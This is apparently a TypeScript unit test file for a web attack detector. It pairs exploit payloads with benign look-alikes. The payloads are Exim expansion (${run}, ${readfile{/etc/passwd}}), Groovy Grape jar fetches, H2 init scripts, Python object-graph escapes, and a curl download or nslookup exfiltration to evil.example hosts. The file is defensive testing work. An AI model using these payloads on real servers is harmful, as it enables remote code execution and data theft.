/**
 * The smaller classes, third round (branch i18-small, docs/detection.md "The smaller classes, third
 * round"): code-execution languages of exploit requests that the nuclei and fuzzdb folds showed
 * missed, each read from its own grammar: Exim's string expansion, Groovy's Grape annotations,
 * H2's code definitions and init scripts, a reconnaissance program alone as the whole value,
 * PHP's self-report function handed over as a callback, Python's object-graph walk, the strings of
 * a JSON parameter, a brace group in the path, and template expressions of Smarty, Thymeleaf and
 * Twig. Every attack example here failed before this round; the benign look-alikes beside them
 * stay quiet. Where: `q` a query value, `ua` the
 * User-Agent, `json`/`form` a field of that body, `path` a whole request target (helpers.ts).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { at, BROWSER, RELAXED, tx, type TxSpec, type Where } from './helpers';

const detector = new AttackDetector(RELAXED);
function classesOf(spec: TxSpec): AttackClass[] {
  return detector.detect(tx(spec))?.hits.map((h) => h.class) ?? [];
}
const classes = (where: Where, v: string): AttackClass[] => classesOf(at(where, v));
/** A request whose Host header is `v` (PHPMailer builds its sender from the host name). */
const withHost = (v: string): TxSpec => ({ target: '/wp-login.php?action=lostpassword', headers: [['Host', v], BROWSER] });

const ATTACKS: Array<[string, Where | 'host', string, AttackClass?]> = [
  // Exim string expansion: an operator that runs, reads or spells a path out of a variable.
  [
    "PHPMailer's sender: run through substr of a variable, in the Host header",
    'host',
    'target(any -froot@localhost -be ${run{${substr{0}{1}{$spool_directory}}bin${substr{0}{1}{$spool_directory}}touch}} null)',
  ],
  ['run of a program in a recipient', 'form', '${run{/bin/sh -c "id"}}@example.com'],
  ['readfile of a system file', 'q', 'x@example.com ${readfile{/etc/passwd}}'],
  ['readsocket to a host', 'json', '${readsocket{inet:evil.example:80}{GET / HTTP/1.0}}'],
  // Groovy Grape: annotations that make the compiler fetch and load a jar.
  [
    "Jenkins' script check given Grape annotations",
    'q',
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://evil.example/')\n@Grab(group='p', module='m', version='1')\nimport Payload;",
  ],
  ['a Grape coordinate', 'form', "@Grab('org.example:payload:1.0')\nimport Payload"],
  ['Grapes around a Grab', 'json', "@Grapes([@Grab(group='p', module='m', version='1')])"],
  // H2: code compiled from the text, or a script run when the database opens.
  [
    "Metabase's connection string running a jar as a script",
    'json',
    "mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM './plugins/x.metabase-driver.jar'//\\;",
  ],
  ['an init script from a URL', 'q', "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'"],
  ['an alias compiled from Java source', 'form', 'CREATE ALIAS EXEC AS $$ String e(String c) { return c; } $$;'],
  ['a trigger in JavaScript', 'json', 'CREATE TRIGGER t BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\nx$$'],
  // A reconnaissance program alone as the whole value.
  ['whoami alone', 'q', 'whoami'],
  ['ipconfig alone', 'form', 'ipconfig'],
  ['ipconfig with its Windows option', 'q', 'ipconfig /all'],
  ['whoami.exe with an option', 'json', 'whoami.exe /priv'],
  ['systeminfo in a header', 'ua', 'systeminfo'],
  // PHP's self-report function handed over as a callback (`callback=phpcredits`).
  ['phpcredits as a callback', 'q', 'phpcredits'],
  // Python's walk through its object graph, and `__import__` of a module then a call on it.
  ['classes to subclasses', 'q', '().__class__.__base__.__subclasses__()'],
  ['getattribute named by string (js2py)', 'form', 'b = h.__getattribute__\nobj = b("__class__").__base__'],
  ["a function's globals", 'json', 'x.__init__.__globals__["os"]'],
  ['__import__ then a call', 'q', "__import__('requests').get('http://evil.example/')"],
  // A JSON document sent as one parameter: its strings are read one by one.
  [
    'a command after an escaped break in a JSON parameter',
    'form',
    '[{"PASSWORD":"asd\\r\\nnslookup.exe evil.example.net 1.1.1.1","PORT":"80"}]',
  ],
  // A brace group run after a separator, spanning segments of the path (bash's brace expansion).
  ['a download by brace expansion in the path', 'path', "/x;{curl,http://evil.example.net/a.sh+-H+'X:+1'};?A"],
  // ssti: template expressions of engines the reader did not know.
  ["Smarty's single brace given a product", 'q', '{7*7}', 'ssti'],
  ['Smarty after a break-out', 'q', "'>{7*'7'}", 'ssti'],
  ["Thymeleaf's fragment expression", 'q', '~{7*7}', 'ssti'],
  ["Twig's dump of the application", 'q', '{{dump(app)}}', 'ssti'],
];

const BENIGN: Array<[string, Where | 'host', string]> = [
  ['a template with placeholders', 'q', 'Dear ${name}, your order ${order.id} ships ${f(x)}'],
  ['a price written with two dollars', 'q', 'price is $${run}'],
  ['a host name with a port', 'host', 'shop.example:8080'],
  ['a mention of an app before a parenthesis', 'q', 'Follow @Grab (the ride app) for deals'],
  ['a handle glued to a parenthesis without a Groovy argument', 'q', '@Grab(food) later'],
  [
    'a test connection string with a schema script',
    'q',
    "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1;INIT=RUNSCRIPT FROM 'classpath:schema.sql'",
  ],
  ['a connection string creating a schema', 'q', 'jdbc:h2:mem:test;INIT=CREATE SCHEMA IF NOT EXISTS app'],
  ['a PostgreSQL trigger', 'form', 'CREATE TRIGGER audit AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION log_row()'],
  ['a route named whoami', 'path', '/api/whoami'],
  ['a search naming the program in a sentence', 'q', 'whoami command on windows'],
  ['the program capitalised as a title', 'q', 'Whoami'],
  ['a word-command alone', 'q', 'last'],
  ['a PHP credits page name with words', 'q', 'phpcredits page'],
  ['a script run as the main module', 'q', 'if __name__ == "__main__":\n    main()'],
  ["a class's name", 'q', 'def __init__(self):\n    print(self.__class__.__name__)'],
  ["a tutorial's method resolution order", 'q', 'print(A.__mro__, A.__bases__)'],
  ['__import__ of a module alone', 'q', "__import__('math')"],
  ['a route template left in a path', 'path', '/api/items;{id}/x'],
  ['a matrix parameter in braces', 'path', '/search;{q}'],
  ['a set of numbers in a sentence', 'q', 'the set {2*3} of numbers'],
  ['a superscript', 'q', 'x^{2*3}'],
  ['a Thymeleaf fragment reference', 'q', '~{fragment :: header}'],
  ['a dump call outside a template', 'q', 'dump(x)'],
  ['a package.json sent as one field', 'form', '{"name":"my-app","scripts":{"start":"node index.js"}}'],
  ['a JSON parameter with a line break in a note', 'form', '[{"note":"line one\\r\\nline two","n":1}]'],
];

const spec = (where: Where | 'host', v: string): TxSpec => (where === 'host' ? withHost(v) : at(where, v));
for (const [name, where, v, cls = 'rce'] of ATTACKS) {
  test(`${cls}: ${name}`, () => {
    const got = classesOf(spec(where, v));
    assert.ok(got.includes(cls), `${where} ${JSON.stringify(v)} -> ${got.join(',')}`);
  });
}
for (const [name, where, v] of BENIGN) {
  test(`benign: ${name}`, () => assert.deepEqual(classesOf(spec(where, v)), [], `${where} ${JSON.stringify(v)}`));
}
// A name cut by a NUL is no command (test/unit/attacks/command-lines.test.ts): only the value as sent counts.
test('benign: whoami cut by a NUL', () => assert.ok(!classes('q', 'wh\0oami').includes('rce')));
